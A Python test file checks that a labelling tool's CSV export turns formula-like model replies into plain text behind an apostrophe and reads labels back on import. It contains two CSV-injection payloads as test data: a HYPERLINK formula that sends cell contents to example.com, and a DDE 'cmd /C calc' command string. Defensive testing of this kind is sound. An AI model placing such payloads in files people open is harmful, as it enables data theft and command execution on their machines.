"""`annotate export` writes to-label.csv for spreadsheets (issue 43): a reply a spreadsheet
would run as a formula is written as text behind a ', and `annotate import` reads the file
back, labels and ids as they were exported."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from test_potemkin_api import where

from verstehen.domains.catalog import BY_KEY
from verstehen.domains.registry import concept_tasks
from verstehen.methods.potemkin.api import potemkin_run
from verstehen.methods.potemkin.example import CONCEPT
from verstehen.methods.potemkin.run import plan_run
from verstehen.testing.scripted import ScriptedModel

from conftest import Cli

DEFINITION = '=HYPERLINK("http://example.com/?d="&A1,"a definition")'
EDIT = "-1+cmd|' /C calc'!A0"


def formula_writer() -> ScriptedModel:
    """Defines the concept with a formula, edits with another, answers the rest right."""
    tasks = concept_tasks(BY_KEY[CONCEPT].scope)
    plan = plan_run(concepts=CONCEPT, items_per_concept=1)
    replies = {i.prompt: tasks.reference(i.item) if i.task != "edit" else EDIT
               for i in plan.items if i.item is not None}
    return ScriptedModel("scripted/formulas", reply=lambda p: replies.get(p, DEFINITION))


def rows(path: Path) -> list[dict[str, str]]:
    """The CSV's rows, as the standard library reads them."""
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_formula_replies_are_exported_as_text_and_read_back(tmp_path: Path, cli: Cli):
    """Every answer exported (--all): the formula definition and edit answer behind a ', the
    other cells as the run has them; the file labelled "yes" in a spreadsheet's way (cells
    kept as read) imports every label, and the keystone passes."""
    result = potemkin_run(formula_writer(), concepts=CONCEPT, items_per_concept=1,
                          **where(tmp_path))
    out = tmp_path / "to-label.csv"
    done = cli(["annotate", "export", str(result.run_dir), "--all", "--out", str(out)])
    assert done.returncode == 0, done.stderr
    exported = rows(out)
    answers = [json.loads(line) for line in
               (result.run_dir / "records.jsonl").read_text().splitlines() if line]
    assert len(exported) == len(answers) == 4
    responses = {row["task"]: row["response"] for row in exported}
    assert responses["define"] == "'" + DEFINITION
    assert responses["edit"] == "'" + EDIT
    assert {row["id"] for row in exported} == {a["id"] for a in answers}

    for row in exported:
        row["label"] = "yes"
    with out.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, list(exported[0]))
        writer.writeheader()
        writer.writerows(exported)
    done = cli(["annotate", "import", str(result.run_dir), str(out), "--json"])
    assert done.returncode == 0, done.stderr
    assert "4 labels read, 4 stored" in done.stderr
    after = json.loads(done.stdout)
    assert after["keystones"][0]["keystone"] is True
